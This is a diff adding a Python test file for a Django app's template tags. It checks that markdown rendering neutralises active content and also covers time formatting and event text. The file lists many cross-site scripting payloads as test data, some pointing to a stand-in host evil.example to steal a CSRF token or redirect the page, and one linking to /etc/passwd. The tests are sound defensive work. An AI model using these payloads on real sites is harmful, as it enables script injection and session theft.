@@ -1,0 +1,155 @@
+"""How texts, sizes and states are written on pages."""
+
+import re
+from datetime import UTC, datetime, timedelta
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from django.utils import timezone
+from hypothesis import given
+from hypothesis import strategies as st
+
+from evidesk.desk.templatetags import evidesk as tags
+from evidesk.desk.vouchers.models import Event
+
+HARMLESS = {
+    "p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr",
+    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
+}  # fmt: skip
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)"//',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<math><mtext></p><style><!--</style><img title='--><img src onerror=alert(1)>'>",
+    "<style>body{background:url(javascript:alert(1))}</style>",
+    "<p style='position:fixed'>x</p>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<!-- --><script>alert(1)</script><!-- -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x73;cript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](&#14;  javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](%6Aavascript:alert(1))",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/pixel.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    '[x](https://a.example "onmouseover=alert(1)")',
+    "[x](https://a.example/\"onmouseover='alert(1)')",
+    "<javascript:alert(1)>",
+    "[a]: javascript:alert(1)\n\n[a]",
+    "```\n<script>alert(1)</script>\n```",
+    "```<script>alert(1)</script>\nx\n```",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "| a |\n|:-:|\n| x |",
+    "> > > <details open ontoggle=alert(1)>",
+    "<a href='https://a.example' target=_blank onclick=alert(1)>x</a>",
+    "# <b onmouseover=alert(1)>x</b>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+
+
+class Reader(HTMLParser):
+    """Notes each tag with its attributes, as a browser would see them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.comments: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_comment(self, data: str) -> None:
+        self.comments.append(data)
+
+
+def assert_nothing_active(html: str) -> None:
+    read = Reader(html)
+    assert read.comments == []
+    for tag, attributes in read.tags:
+        assert tag in HARMLESS
+        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
+        assert attributes.keys() <= allowed | {"title", "lang"}
+        href = attributes.get("href")
+        if href is not None:
+            # As browsers do: control characters and spaces do not count.
+            scheme = urlsplit(re.sub(r"[\x00-\x20]", "", href)).scheme.lower()
+            assert scheme in ("http", "https", "mailto", ""), href
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_nothing_that_people_write_becomes_active(text: str) -> None:
+    assert_nothing_active(tags.markdown(text))
+    assert_nothing_active(tags.markdown(f"- > {text}\n\n1. {text}"))
+
+
+PIECES = st.sampled_from([*ATTACKS, "<", ">", '"', "'", "`", "\n", "](", "[x](", "*", "&", "a"])
+
+
+@given(st.lists(PIECES, max_size=8).map("".join))
+def test_no_mixture_of_attacks_becomes_active(text: str) -> None:
+    assert_nothing_active(tags.markdown(text))
+
+
+def test_headings_begin_below_the_pages_own() -> None:
+    html = tags.markdown("# One\n\n## Two\n\n### Three")
+    assert [tag for tag, _ in Reader(html).tags] == ["h3", "h4", "h3"]
+    assert "<h1" not in tags.markdown("`<h1>` in code")
+
+
+def test_tables_lists_and_links_stay() -> None:
+    html = tags.markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n3. c\n\n<https://a.example>")
+    assert "<td>1</td>" in html
+    assert '<ol start="3">' in html
+    assert 'href="https://a.example"' in html
+
+
+def test_a_moment_is_told_in_one_unit_with_the_exact_time_beside() -> None:
+    html = tags.when(timezone.now() - timedelta(days=115))
+    assert re.search(r">\d+\xa0months? ago<", html)
+    assert re.search(r">\d+\xa0minutes? ago<", tags.when(timezone.now() - timedelta(minutes=5)))
+    exact = tags.when(datetime(2026, 3, 4, 9, 30, tzinfo=UTC))
+    assert 'title="4 March 2026, 10:30"' in exact
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "told"),
+    [
+        ("message", {}, "wrote"),
+        ("submit", {}, "submitted the voucher"),
+        ("offer", {"to": "Cyra"}, "offered it to Cyra"),
+    ],
+)
+def test_an_event_reads_as_a_sentence(kind: str, data: dict[str, str], told: str) -> None:
+    assert tags.happened(Event(kind=kind, data=data)) == told
+
+
+def test_parameters_and_cells_are_written_for_people() -> None:
+    assert tags.plain(["a", 2]) == "a, 2"
+    assert tags.plain(0.95) == 0.95
+    assert [tags.is_number(value) for value in (1, 0.5, "1", None)] == [True, True, False, False]
+    assert [tags.cell(value) for value in (None, 7, 0.123456, 1.0, "x", float("inf"))] == [
+        "–", "7", "0.1235", "1.000", "x", "inf"
+    ]  # fmt: skip
